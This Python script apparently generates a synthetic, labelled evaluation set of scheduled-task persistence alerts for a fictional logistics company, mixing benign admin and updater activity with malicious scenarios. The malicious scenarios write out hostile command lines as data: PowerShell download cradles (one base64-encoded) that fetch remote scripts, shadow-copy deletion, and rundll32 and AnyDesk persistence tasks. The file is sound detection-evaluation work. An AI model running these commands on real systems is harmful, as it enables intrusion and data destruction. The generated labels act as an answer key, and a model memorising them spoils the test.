#!/usr/bin/env python3
"""Fourth blind evaluation set: two weeks of T1053 alerts at Kestrel Line Logistics (kestrelline.example).

Python 3 standard library only, no network, fixed seed: two runs give byte-identical files. Writes four
exports (Zircolite CSV, Kibana Discover CSV of Elastic Security alerts, Splunk ES notables CSV, Defender
for Endpoint alerts API JSON) and labels.csv (source_file,record_no,verdict,notes,scenario).
See README.md for the estate, the stories, the label rubric and the independence rules.
"""

import csv
import datetime as dt
import hashlib
import io
import json
import math
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SEED_MAP = "/work/shared/research/lofp/seed_map.json"
ORG = "kestrelline"  # salt of every deterministic id
DOM = "KESTREL"
DNS = "kestrelline.example"
DOM_SID = "S-1-5-21-" + "-".join(str(int(h, 16) % 4000000000) for h in (
    hashlib.sha256(b"kestrelline1").hexdigest()[:8], hashlib.sha256(b"kestrelline2").hexdigest()[:8],
    hashlib.sha256(b"kestrelline3").hexdigest()[:8]))
UTC = dt.timezone.utc
START = dt.datetime(2028, 3, 6, tzinfo=UTC)  # Monday; the UK is on GMT (UTC) until 2028-03-26
rng = random.Random(20280306)

F_ZIR = "blind4_zircolite_triage.csv"
F_KIB = "blind4_kibana_alerts.csv"
F_SPL = "blind4_es_notables.csv"
F_MDE = "blind4_mde_alerts.json"
FILES = [F_ZIR, F_KIB, F_SPL, F_MDE]


def hid(*parts, n=32):
    return hashlib.sha256("|".join((ORG,) + tuple(str(p) for p in parts)).encode()).hexdigest()[:n]


def guid(*parts):
    h = hid(*parts)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32])


def at(day, hh, mm, ss=None):
    ss = rng.randrange(0, 60) if ss is None else ss
    return START + dt.timedelta(days=day, hours=hh, minutes=mm, seconds=ss, microseconds=rng.randrange(0, 10**6))


def later(t, lo=1, hi=30):
    return t + dt.timedelta(seconds=rng.randrange(lo, hi), microseconds=rng.randrange(0, 10**6))


# ---------------------------------------------------------------------------------------------- estate
PCS = ["kl-nhp-pc%04d" % n for n in range(101, 141)] + ["kl-dav-pc%04d" % n for n in range(201, 221)]
DEPOT = ["kl-fxt-dt%02d" % n for n in range(1, 25)] + ["kl-dav-dt%02d" % n for n in range(1, 17)]
SERVERS = ["kl-srv-dc01", "kl-srv-dc02", "kl-srv-wms01", "kl-srv-tms01", "kl-srv-sql01", "kl-srv-file01",
           "kl-srv-print01", "kl-srv-edi01", "kl-srv-rds01", "kl-srv-rds02"]
JUMP = ["kl-it-jump01", "kl-it-jump02"]
LX_SPLUNK = ["kl-lx-edi01", "kl-lx-edi02", "kl-lx-pg01"]
LX_ELASTIC = ["kl-lx-track01", "kl-lx-track02", "kl-lx-track03", "kl-lx-chef01"]
# The incident-response triage (week 2) collected the EVTX of every Windows server, both jump hosts and
# these office PCs, and ran Zircolite with the SigmaHQ rules over them.
TRIAGE_PCS = set(PCS[0:14])
STAFF = {pc: u for pc, u in zip(PCS, ["aboateng", "lchen", "mwalsh", "dpatel", "sfarrell", "jokoro", "hmorgan",
                                       "kbrennan", "tadeyemi", "rsingh", "cgallagher", "ewright", "nmurphy",
                                       "ykowalski", "bhughes", "fidris", "gthornton", "olarsen", "pquinn",
                                       "vmensah", "wdoyle", "zahmed", "amcbride", "cfoster", "dreilly",
                                       "eokafor", "gpalmer", "hkhan", "isutton", "jlowe"] * 2)}
SYSTEM = "NT AUTHORITY\\SYSTEM"
NINJA = "C:\\Program Files (x86)\\kestrelline-7c2e\\NinjaRMMAgent.exe"
SCHT = "C:\\Windows\\System32\\schtasks.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SVCHOST_CMD = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"


def ip_of(host):
    n = int(hid("ip", host, n=4), 16)
    if host in SERVERS or host in JUMP:
        return "172.20.4.%d" % (10 + SERVERS.__add__(JUMP).index(host))
    if host.startswith("kl-lx"):
        return "172.20.8.%d" % (10 + (LX_SPLUNK + LX_ELASTIC).index(host))
    if host in DEPOT:
        return "10.42.%d.%d" % (1 + n % 6, 20 + n % 200)
    return "10.40.%d.%d" % (16 + n % 16, 10 + n % 240)


def sid_of(user):
    if user == SYSTEM:
        return "S-1-5-18"
    return "%s-%d" % (DOM_SID, 1100 + int(hid("sid", user, n=6), 16) % 8000)


def sources(host):
    if host in PCS:
        return {"kib", "zir"} if host in TRIAGE_PCS else {"kib"}
    if host in SERVERS or host in JUMP:
        return {"spl", "zir"}
    if host in DEPOT:
        return {"mde"}
    if host in LX_SPLUNK:
        return {"spl"}
    return {"kib"}


ACTS = []


def act(kind, t, host, user, verdict, cause, scenario, **kw):
    a = dict(kind=kind, t=t, host=host, user=user, verdict=verdict, cause=cause, scenario=scenario)
    a.update(kw)
    a["n"] = len(ACTS)
    ACTS.append(a)
    return a


def proc(t, host, user, cmd, parent, pcmd, verdict, cause, scenario, image=SCHT, integrity="High", **kw):
    return act("proc", t, host, user, verdict, cause, scenario, image=image, cmd=cmd, parent=parent, pcmd=pcmd,
               integrity=integrity, **kw)


def task(t, host, subject, name, command, args, run_as, trigger, verdict, cause, scenario, level="LeastPrivilege",
         author=None, **kw):
    return act("task", t, host, subject, verdict, cause, scenario, task=name, command=command, args=args,
               run_as=run_as, trigger=trigger, level=level, author=author or subject, **kw)


def lproc(t, host, user, exe, cmd, pexe, pcmd, verdict, cause, scenario, **kw):
    return act("lproc", t, host, user, verdict, cause, scenario, image=exe, cmd=cmd, parent=pexe, pcmd=pcmd, **kw)


def lfile(t, host, user, path, exe, verdict, cause, scenario, **kw):
    return act("lfile", t, host, user, verdict, cause, scenario, path=path, image=exe, **kw)


def q(s):
    return '"' + s + '"'


def workday():
    return rng.choice([0, 1, 2, 3, 4, 7, 8, 9, 10, 11])


# ============================================================================================ benign stories
# B1 install: RouteLedger (route planning) per-user Inno Setup installer, from the user's Temp folder.
for i, pc in enumerate(rng.sample(PCS, 16)):
    u = STAFF[pc]
    t = at(rng.randrange(0, 5) if i % 2 == 0 else workday(), rng.randrange(8, 17), rng.randrange(60))
    tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp" % (u, hid("inno", pc, n=5).upper())
    upd = "C:\\Users\\%s\\AppData\\Local\\RouteLedger\\rlupdate.exe" % u
    cmd = '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC DAILY /ST %02d:%02d /TN "RouteLedger Updater" /TR "\\"%s\\" /silent"' % (
        rng.randrange(9, 16), rng.choice([0, 15, 30, 45]), upd)
    sc = "RouteLedger 4.2 per-user installer from Temp registers its AppData updater task"
    proc(t, pc, "%s\\%s" % (DOM, u), cmd, tmp + "\\RouteLedgerSetup-4.2.1.tmp",
         '"%s\\RouteLedgerSetup-4.2.1.tmp" /SL5="$40A2C,18234112,832512,C:\\Users\\%s\\Downloads\\RouteLedgerSetup-4.2.1.exe"' % (tmp, u),
         "benign", "install", sc, integrity="Medium", cwd=tmp + "\\")
    task(later(t, 0, 2), pc, u, "\\RouteLedger Updater", upd, "/silent", u, "CalendarTrigger(daily)", "benign", "install", sc)
    # B2 updater: a week later the updater re-registers its task with a logon trigger as well.
    if i % 2 == 0:
        t2 = t + dt.timedelta(days=7, minutes=rng.randrange(30, 300))
        cmd2 = '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC ONLOGON /TN "RouteLedger Updater Logon" /TR "\\"%s\\" /silent /logon"' % upd
        sc2 = "RouteLedger updater re-registers its own AppData logon task"
        proc(t2, pc, "%s\\%s" % (DOM, u), cmd2, upd, '"%s" /silent' % upd, "benign", "updater", sc2, integrity="Medium",
             cwd="C:\\Users\\%s\\AppData\\Local\\RouteLedger\\" % u)
        task(later(t2, 0, 2), pc, u, "\\RouteLedger Updater Logon", upd, "/silent /logon", u, "LogonTrigger", "benign", "updater", sc2)

# B3 updater: OneDrive standalone updater (COM registration, no schtasks process) on office PCs.
for pc in rng.sample(PCS, 14):
    u = STAFF[pc]
    t = at(rng.randrange(0, 12), rng.randrange(7, 18), rng.randrange(60))
    task(t, pc, u, "\\OneDrive Standalone Update Task-%s" % sid_of(u),
         "%%localappdata%%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe" , "/reporting", u,
         "TimeTrigger+CalendarTrigger(daily)", "benign", "updater", "OneDrive standalone updater re-registers its per-user task",
         author="Microsoft Corporation")

# B4 deploy: NinjaOne pushes the DockPilot scanner sync MSI (depot terminals, WMS server, two jump-free PCs).
DP = '"C:\\Windows\\system32\\schtasks.exe" /Create /RU SYSTEM /SC ONSTART /RL HIGHEST /F /TN "\\DockPilot\\SyncWatchdog" /TR "\\"C:\\Program Files\\DockPilot\\dpwatch.exe\\" --service"'
for host in rng.sample(DEPOT, 12) + ["kl-srv-wms01", "kl-srv-tms01"]:
    t = at(1 if host in DEPOT else 2, rng.randrange(19, 23), rng.randrange(60))
    sc = "NinjaOne deploys the DockPilot 3.1 MSI: SYSTEM start-up watchdog task"
    a = proc(t, host, SYSTEM, DP, "C:\\Windows\\SysWOW64\\msiexec.exe", "C:\\Windows\\syswow64\\MsiExec.exe -Embedding 5C1A83E4B2F0D7C6A9E1B3D5F7A90C2E E Global\\MSI0000",
             "benign", "deploy", sc, integrity="System")
    if host in DEPOT and rng.random() < 0.6:
        a["mde"] = ("Suspicious scheduled task", "Low", "Persistence")
    task(later(t), host, host + "$", "\\DockPilot\\SyncWatchdog", "C:\\Program Files\\DockPilot\\dpwatch.exe", "--service",
         "S-1-5-18", "BootTrigger", "benign", "deploy", sc, level="HighestAvailable", author="DockPilot Ltd")

# B5 mgmt: a NinjaOne script registers IT's weekly disk clean-up task (servers, depot terminals, PCs).
DC = '"C:\\Windows\\system32\\schtasks.exe" /Create /F /RU SYSTEM /SC WEEKLY /D SUN /ST 04:00 /TN "\\KestrelIT\\DiskCleanup" /TR "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\KestrelIT\\diskcleanup.ps1"'
for host in SERVERS + rng.sample(DEPOT, 10) + rng.sample(sorted(TRIAGE_PCS), 5):
    t = at(3, rng.randrange(10, 12), rng.randrange(60))
    sc = "NinjaOne policy script registers IT's weekly SYSTEM disk clean-up task"
    pcmd = 'powershell.exe -NonInteractive -ExecutionPolicy Bypass -File "C:\\ProgramData\\NinjaRMMAgent\\scripting\\customscript_gen_%d.ps1"' % (21 + len(host) % 3)
    a = proc(t, host, SYSTEM, DC, PS, pcmd, "benign", "mgmt", sc, integrity="System", gparent=NINJA)
    if host in DEPOT and rng.random() < 0.5:
        a["mde"] = ("Suspicious Task Scheduler activity", "Low", "Persistence")
    task(later(t), host, host + "$", "\\KestrelIT\\DiskCleanup", "powershell.exe",
         "-NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\KestrelIT\\diskcleanup.ps1", "S-1-5-18",
         "CalendarTrigger(weekly)", "benign", "mgmt", sc, author="%s\\ninja-svc" % DOM)

# B5b mgmt: NinjaOne nightly reboot task on depot terminals (scanners keep leaking handles).
for host in rng.sample(DEPOT, 14):
    t = at(rng.choice([0, 7]), rng.randrange(13, 16), rng.randrange(60))
    cmd = '"C:\\Windows\\system32\\schtasks.exe" /Create /F /RU SYSTEM /SC DAILY /ST 03:15 /TN "\\KestrelIT\\NightlyReboot" /TR "shutdown.exe /r /f /t 120 /c \\"Kestrel IT nightly restart\\""'
    a = proc(t, host, SYSTEM, cmd, PS, 'powershell.exe -NonInteractive -ExecutionPolicy Bypass -File "C:\\ProgramData\\NinjaRMMAgent\\scripting\\customscript_gen_34.ps1"',
             "benign", "mgmt", "NinjaOne script schedules the depot terminals' nightly restart", integrity="System", gparent=NINJA)
    a["mde"] = ("Suspicious Task Scheduler activity", "Informational", "Persistence")

# B6 admin: WMS/TMS batch tasks created, run and deleted remotely from the jump hosts.
ADMINS = ["adm-rkhan", "adm-tnowak", "adm-sobi"]
BATCH = [("kl-srv-wms01", "\\Kestrel\\WMS Nightly Reindex", "D:\\WMS\\bin\\reindex.exe --all", "svc-wmsjob"),
         ("kl-srv-tms01", "\\Kestrel\\TMS Carrier Rates Import", "D:\\TMS\\tools\\ratesimport.exe /carriers:all", "svc-wmsjob"),
         ("kl-srv-edi01", "\\Kestrel\\EDI Outbound Sweep", "D:\\EDI\\bin\\sweep.cmd", "svc-edi"),
         ("kl-srv-file01", "\\Kestrel\\Archive PODs", "D:\\Scripts\\archive-pods.cmd", "svc-edi")]
for k, (srv, name, tr, svc) in enumerate(BATCH):
    for rep in range(2):
        adm = ADMINS[(k + rep) % 3]
        jh = JUMP[(k + rep) % 2]
        t = at(workday(), rng.randrange(9, 17), rng.randrange(60))
        sc = "admin creates, tests and removes a %s batch task on %s from a jump host" % (name.split("\\")[-1], srv)
        pcmd = '"C:\\Windows\\system32\\cmd.exe"'
        proc(t, jh, "%s\\%s" % (DOM, adm), 'schtasks /Create /S %s /RU %s\\%s /RP * /SC DAILY /ST 02:30 /TN "%s" /TR "%s"' % (srv, DOM, svc, name, tr),
             CMD, pcmd, "benign", "admin", sc)
        task(later(t), srv, adm, name, tr.split(" ")[0], " ".join(tr.split(" ")[1:]), svc, "CalendarTrigger(daily)", "benign", "admin", sc)
        t2 = later(t, 60, 400)
        proc(t2, jh, "%s\\%s" % (DOM, adm), 'schtasks /Run /S %s /TN "%s"' % (srv, name), CMD, pcmd, "benign", "admin", sc)
        if rep == 1:
            proc(later(t2, 600, 3000), jh, "%s\\%s" % (DOM, adm), 'schtasks /Delete /S %s /TN "%s" /F' % (srv, name), CMD, pcmd, "benign", "admin", sc)

# B7 admin: the DBA imports SQL export job definitions from XML on the SQL server and runs one.
for name in ["ETL Manifest Export", "Depot KPI Snapshot", "Invoice Reconcile"]:
    t = at(workday(), rng.randrange(10, 17), rng.randrange(60))
    sc = "DBA imports a SQL export job from XML and test-runs it"
    proc(t, "kl-srv-sql01", "%s\\adm-eduarte" % DOM,
         'schtasks.exe /Create /XML "D:\\Jobs\\%s.xml" /TN "\\Kestrel\\SQL\\%s" /RU %s\\svc-sqlbak /RP *' % (name.replace(" ", ""), name, DOM),
         PS, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', "benign", "admin", sc)
    task(later(t), "kl-srv-sql01", "adm-eduarte", "\\Kestrel\\SQL\\%s" % name, "C:\\Program Files\\Microsoft SQL Server\\160\\Tools\\Binn\\SQLCMD.EXE",
         "-S . -E -i D:\\Jobs\\%s.sql" % name.replace(" ", ""), "svc-sqlbak", "CalendarTrigger(daily)", "benign", "admin", sc)
    proc(later(t, 30, 200), "kl-srv-sql01", "%s\\adm-eduarte" % DOM, 'schtasks.exe /Run /TN "\\Kestrel\\SQL\\%s"' % name,
         PS, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', "benign", "admin", sc)

# B8 admin: Sunday patch-window reboots, one-time SYSTEM tasks typed by the patching admin.
for host in SERVERS[2:]:
    t = at(12, rng.randrange(20, 23), rng.randrange(60))
    sc = "patching admin schedules a one-time SYSTEM reboot for the Sunday patch window"
    proc(t, host, "%s\\adm-tnowak" % DOM,
         'schtasks /create /tn "Kestrel\\PatchReboot" /tr "shutdown.exe /r /f /t 60 /c \\"March patching\\"" /sc once /st 02:00 /sd 19/03/2028 /ru SYSTEM /f',
         CMD, '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", sc)
    task(later(t), host, "adm-tnowak", "\\Kestrel\\PatchReboot", "shutdown.exe", '/r /f /t 60 /c "March patching"', "S-1-5-18",
         "TimeTrigger(2028-03-19T02:00:00)", "benign", "admin", sc)

# B9 updater: LabelForge's GUID-named SYSTEM updater task (print server, depot terminals) and its msiexec runs.
for host in ["kl-srv-print01"] + rng.sample(DEPOT, 6):
    t = at(rng.randrange(0, 4), rng.randrange(0, 24), rng.randrange(60))
    g = "{%s}" % guid("labelforge", host).upper()
    sc = "LabelForge updater registers its GUID-named SYSTEM update task"
    lf = "C:\\Program Files (x86)\\LabelForge\\lfupdate.exe"
    a = proc(t, host, SYSTEM, '"C:\\Windows\\system32\\schtasks.exe" /Create /TN "%s" /TR "\\"%s\\" -bg" /SC DAILY /ST 05:10 /RU SYSTEM /F' % (g, lf),
             lf, '"%s" -service' % lf, "benign", "updater", sc, integrity="System")
    if host in DEPOT and rng.random() < 0.5:
        a["mde"] = ("Suspicious scheduled task", "Low", "Persistence")
    task(later(t), host, host + "$", "\\" + g, lf, "-bg", "S-1-5-18", "CalendarTrigger(daily)", "benign", "updater", sc, author="LabelForge")
for d in range(0, 14, 3):
    t = at(d, 5, 10)
    proc(t, "kl-srv-print01", SYSTEM, 'msiexec.exe /i "C:\\ProgramData\\LabelForge\\updates\\LabelForge-7.4.%d.msi" /qn REBOOT=ReallySuppress' % (d + 2),
         SVCHOST, SVCHOST_CMD, "benign", "updater", "LabelForge update task installs the new MSI", image="C:\\Windows\\System32\\msiexec.exe", integrity="System")

# B10 admin: the file-server admin's forfiles purge task, run by the Task Scheduler every night.
for d in range(0, 14, 2):
    proc(at(d, 1, 30), "kl-srv-file01", "%s\\svc-edi" % DOM, 'forfiles.exe /p "D:\\Shares\\Scans" /s /m *.pdf /d -30 /c "cmd /c del @path"',
         SVCHOST, SVCHOST_CMD, "benign", "admin", "admin-made nightly forfiles purge of old scans runs", image="C:\\Windows\\System32\\forfiles.exe")

# B11 auto: RDS session hosts' per-user logon task from the TMS client (ONLOGON, user context).
for host in ["kl-srv-rds01", "kl-srv-rds02"]:
    for u in rng.sample(sorted(set(STAFF.values())), 3):
        t = at(workday(), rng.randrange(7, 10), rng.randrange(60))
        sc = "TMS client registers its per-user logon sync task on the RDS host"
        exe = "C:\\Program Files\\Haulmark TMS\\Client\\tmssync.exe"
        proc(t, host, "%s\\%s" % (DOM, u), '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC ONLOGON /TN "Haulmark\\TmsSync-%s" /TR "\\"%s\\" --user %s"' % (u, exe, u),
             "C:\\Program Files\\Haulmark TMS\\Client\\tmsclient.exe", '"C:\\Program Files\\Haulmark TMS\\Client\\tmsclient.exe"',
             "benign", "auto", sc, integrity="Medium")

# B12 admin: helpdesk one-time logoff task on an office PC (troubleshooting a stuck profile).
for pc in rng.sample(sorted(TRIAGE_PCS), 3):
    t = at(workday(), rng.randrange(9, 17), rng.randrange(60))
    proc(t, pc, "%s\\adm-sobi" % DOM, 'schtasks /create /tn "HelpdeskLogoff" /tr "logoff.exe" /sc once /st %02d:00 /f' % (t.hour + 1),
         CMD, '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", "helpdesk schedules a one-time logoff on a PC")

# --------------------------------------------------------------------------------------------- Linux benign
CHEF_RUBY = "/opt/chef/embedded/bin/ruby"
CHEF_CMD = "/opt/chef/embedded/bin/ruby --disable-gems /opt/chef/bin/chef-client -c /etc/chef/client.rb"
for host in LX_SPLUNK + LX_ELASTIC:
    for d in (1, 8):
        t = at(d, 6, rng.randrange(60))
        sc = "Chef run writes the Kestrel cron file and unit, restarts the service"
        name = "edi-poll" if "edi" in host else ("pg-backup" if "pg" in host else "track-export")
        lfile(t, host, "root", "/etc/cron.d/kestrel-%s" % name, CHEF_RUBY, "benign", "cm", sc, pcmd=CHEF_CMD)
        lfile(later(t), host, "root", "/etc/systemd/system/kestrel-%s.service" % name, CHEF_RUBY, "benign", "cm", sc, pcmd=CHEF_CMD)
        lproc(later(t, 5, 40), host, "root", "/usr/bin/systemctl", "systemctl restart kestrel-%s.service" % name, CHEF_RUBY, CHEF_CMD,
              "benign", "cm", sc)
for host in LX_SPLUNK:
    t = at(9, 3, rng.randrange(60))
    lfile(t, host, "root", "/etc/cron.d/sysstat" if host != "kl-lx-pg01" else "/etc/cron.d/postgresql-common",
          "/usr/bin/dpkg", "benign", "pkg", "unattended-upgrades: dpkg installs a package's cron file", pcmd="/usr/bin/dpkg --status-fd 3 --configure --pending")
    lproc(later(t), host, "root", "/usr/bin/systemctl", "systemctl restart cron.service", "/bin/sh",
          "/bin/sh /var/lib/dpkg/info/cron.postinst configure", "benign", "pkg", "package maintainer script restarts cron")
LADM = ["gmercer", "ppillai", "rkhan"]
for k in range(6):
    host = LX_SPLUNK[k % 3]
    adm = LADM[k % 3]
    t = at(workday(), rng.randrange(9, 17), rng.randrange(60))
    sc = "Linux admin reviews and edits the EDI service account's crontab"
    lproc(t, host, "root", "/usr/bin/crontab", "crontab -l -u svc-edi", "/usr/bin/sudo", "sudo crontab -l -u svc-edi", "benign", "admin", sc)
    lproc(later(t, 20, 90), host, "root", "/usr/bin/crontab", "crontab -e -u svc-edi", "/usr/bin/sudo", "sudo crontab -e -u svc-edi", "benign", "admin", sc)
    lfile(later(t, 100, 200), host, "root", "/var/spool/cron/crontabs/svc-edi", "/usr/bin/crontab", "benign", "admin", sc, pcmd="crontab -e -u svc-edi")
    if k < 3:
        t2 = later(t, 400, 900)
        lproc(t2, host, "root", "/usr/bin/vim.basic", "vim /etc/cron.d/kestrel-edi-poll", "/usr/bin/sudo", "sudo vim /etc/cron.d/kestrel-edi-poll",
              "benign", "admin", "admin hand-edits a cron file, then restarts the service", image_name="vim.basic")
        lproc(later(t2, 60, 200), host, "root", "/usr/bin/systemctl", "systemctl restart edi-as2.service", "/usr/bin/sudo",
              "sudo systemctl restart edi-as2.service", "benign", "admin", "admin hand-edits a cron file, then restarts the service")
for k in range(4):
    host = LX_SPLUNK[k % 2]
    t = at(workday(), rng.randrange(17, 20), rng.randrange(60))
    lproc(t, host, "svc-edi", "/usr/bin/at", "at 22:30 -f /opt/edi/bin/resend-failed.sh", "/bin/bash", "-bash",
          "benign", "admin", "EDI operator queues a one-off resend with at")
for host in LX_ELASTIC[:3]:
    for d in range(0, 14, 4):
        lproc(at(d, 0, 5), host, "trackapp", "/usr/bin/crontab", "crontab /opt/track/etc/crontab.txt", "/usr/sbin/cron", "/usr/sbin/CRON -f",
              "benign", "auto", "tracking API's nightly job reinstalls its own crontab from cron")
for host in LX_ELASTIC[:3]:
    t = at(workday(), 14, rng.randrange(60))
    lfile(t, host, "root", "/etc/cron.d/track-logship", "/usr/bin/cp", "benign", "admin", "admin copies a log-shipping cron file into place",
          pcmd="cp /home/ppillai/track-logship /etc/cron.d/track-logship")
    lfile(later(t, 120, 400), host, "root", "/etc/systemd/system/track-logship.timer", "/usr/bin/vim.basic", "benign", "admin",
          "admin writes a log-shipping systemd timer by hand", pcmd="vim /etc/systemd/system/track-logship.timer")

# ========================================================================================= malicious stories
# M1 phish (Latrodectus-style .js loader) on office PCs, imitating the RouteLedger updater task.
for pc in ["kl-nhp-pc0104", "kl-nhp-pc0109", "kl-dav-pc0207", "kl-nhp-pc0131"]:
    u = STAFF[pc]
    t = at(rng.choice([2, 3]), rng.randrange(9, 16), rng.randrange(60))
    dll = "C:\\Users\\%s\\AppData\\Roaming\\RouteLedger\\rl64.dll" % u
    sc = "phishing .js loader persists as a RouteLedger-named 20-minute rundll32 task"
    proc(t, pc, "%s\\%s" % (DOM, u), 'schtasks.exe /Create /SC MINUTE /MO 20 /TN "RouteLedger Updater Service" /TR "rundll32.exe %s,DllRegisterServer" /F' % dll,
         "C:\\Windows\\System32\\wscript.exe", '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\%s\\Downloads\\Freight_Invoice_%d.js"' % (u, 40000 + len(pc) * 37),
         "malicious", None, sc, integrity="Medium")
    task(later(t), pc, u, "\\RouteLedger Updater Service", "rundll32.exe", "%s,DllRegisterServer" % dll, u, "TimeTrigger(PT20M)", "malicious", None, sc)
    for r in range(rng.randrange(3, 6)):
        proc(t + dt.timedelta(minutes=20 * (r + 1), seconds=rng.randrange(3)), pc, "%s\\%s" % (DOM, u), "rundll32.exe %s,DllRegisterServer" % dll,
             SVCHOST, SVCHOST_CMD, "malicious", None, "the loader's rundll32 task runs", image="C:\\Windows\\System32\\rundll32.exe", integrity="Medium")

# M2 stolen admin credentials (adm-tnowak) used from an office PC, then from a jump host.
src = "kl-nhp-pc0112"
for k, srv in enumerate(["kl-srv-file01", "kl-srv-sql01", "kl-srv-tms01"]):
    t = at(9, 23, 10 + 7 * k)
    sc = "stolen adm-tnowak credentials: remote one-time SYSTEM task with a Windows\\Temp payload from an office PC"
    name = "\\Microsoft\\Windows\\WindowsUpdate\\Refresh"
    u = "%s\\adm-tnowak" % DOM
    proc(t, src, u, 'schtasks /create /s %s /ru SYSTEM /sc once /st 00:00 /tn "%s" /tr "cmd /c C:\\Windows\\Temp\\wuauhelper.exe -k" /f' % (srv, name),
         CMD, "cmd.exe /c", "malicious", None, sc)
    task(later(t), srv, "adm-tnowak", name, "cmd", "/c C:\\Windows\\Temp\\wuauhelper.exe -k", "S-1-5-18", "TimeTrigger(2028-03-16T00:00:00)", "malicious", None, sc)
    proc(later(t, 20, 60), src, u, 'schtasks /run /s %s /tn "%s"' % (srv, name), CMD, "cmd.exe /c", "malicious", None, sc)
    proc(later(t, 90, 200), src, u, 'schtasks /delete /s %s /tn "%s" /f' % (srv, name), CMD, "cmd.exe /c", "malicious", None, sc)
for k, srv in enumerate(["kl-srv-wms01", "kl-srv-edi01"]):
    t = at(10, 1, 5 + 9 * k)
    sc = "stolen adm-tnowak credentials on a jump host: download-cradle task under the SQL backup account"
    u = "%s\\adm-tnowak" % DOM
    tr = "powershell.exe -nop -w hidden -c \\\"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\\\""
    proc(t, "kl-it-jump02", u, 'schtasks /Create /S %s /RU %s\\svc-sqlbak /RP * /SC DAILY /ST 02:30 /TN "\\Kestrel\\SQL Backup Verify" /TR "%s"' % (srv, DOM, tr),
         PS, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', "malicious", None, sc)
    task(later(t), srv, "adm-tnowak", "\\Kestrel\\SQL Backup Verify", "powershell.exe",
         "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\"", "svc-sqlbak", "CalendarTrigger(daily)", "malicious", None, sc)
    proc(later(t, 30, 90), "kl-it-jump02", u, 'schtasks /Run /S %s /TN "\\Kestrel\\SQL Backup Verify"' % srv, PS,
         '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', "malicious", None, sc)

# M3 ransomware staging over PsExec on servers (Akira-style): maintenance-named start-up rundll32 task and
# a GUID-named one-time shadow-copy deletion task.
for k, srv in enumerate(["kl-srv-file01", "kl-srv-wms01", "kl-srv-tms01", "kl-srv-sql01", "kl-srv-print01"]):
    t = at(10, 2, 20 + 4 * k)
    sc = "ransomware staging over PsExec: SYSTEM start-up rundll32 task on a ProgramData DLL"
    proc(t, srv, SYSTEM, 'schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\CacheSync" /ru SYSTEM /sc onstart /rl highest /tr "rundll32.exe C:\\ProgramData\\cachesync.dll,Run" /f',
         CMD, "cmd.exe /c schtasks /create /tn \"\\Microsoft\\Windows\\Maintenance\\CacheSync\" ...", "malicious", None, sc, integrity="System",
         gparent="C:\\Windows\\PSEXESVC.exe")
    task(later(t), srv, srv + "$", "\\Microsoft\\Windows\\Maintenance\\CacheSync", "rundll32.exe", "C:\\ProgramData\\cachesync.dll,Run", "S-1-5-18",
         "BootTrigger", "malicious", None, sc, level="HighestAvailable", subject_user="adm-tnowak")
    g = "{%s}" % guid("vss", srv).upper()
    t2 = later(t, 60, 120)
    sc2 = "ransomware staging: GUID-named one-time task deleting shadow copies"
    proc(t2, srv, SYSTEM, 'schtasks /create /tn "%s" /ru SYSTEM /sc once /st 03:00 /tr "cmd.exe /c vssadmin delete shadows /all /quiet" /f' % g,
         CMD, "cmd.exe /c", "malicious", None, sc2, integrity="System", gparent="C:\\Windows\\PSEXESVC.exe")
    task(later(t2), srv, srv + "$", "\\" + g, "cmd.exe", "/c vssadmin delete shadows /all /quiet", "S-1-5-18", "TimeTrigger(2028-03-16T03:00:00)",
         "malicious", None, sc2, subject_user="adm-tnowak")

# M4 RMM abuse on depot terminals: a rogue Atera agent installed from a fake "scanner firmware" email,
# persisted by a SYSTEM logon task with encoded PowerShell, then a hidden AnyDesk task.
ENC = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5ADEALwBkAHAAJwApAA=="
for host in ["kl-fxt-dt03", "kl-fxt-dt07", "kl-fxt-dt11", "kl-fxt-dt19", "kl-dav-dt04", "kl-dav-dt09"]:
    t = at(8, rng.randrange(13, 16), rng.randrange(60))
    sc = "rogue Atera agent (RMM abuse) persists with a SYSTEM logon task running encoded PowerShell"
    a = proc(t, host, SYSTEM, 'schtasks /create /ru SYSTEM /rl highest /sc onlogon /tn "AteraAgentWatch" /tr "powershell -w hidden -ep bypass -enc %s" /f' % ENC,
             "C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe", '"C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe"',
             "malicious", None, sc, integrity="System")
    a["mde"] = ("Suspicious Task Scheduler activity", "Medium", "Persistence")
    t2 = later(t, 300, 900)
    a = proc(t2, host, SYSTEM, 'schtasks /create /ru SYSTEM /sc minute /mo 30 /tn "DepotScannerHealth" /tr "C:\\ProgramData\\AnyDesk\\AnyDesk.exe --silent" /f',
             PS, "powershell -w hidden -ep bypass -enc " + ENC[:40] + "...", "malicious", None, "attacker adds an AnyDesk keep-alive task named like a scanner health check",
             integrity="System")
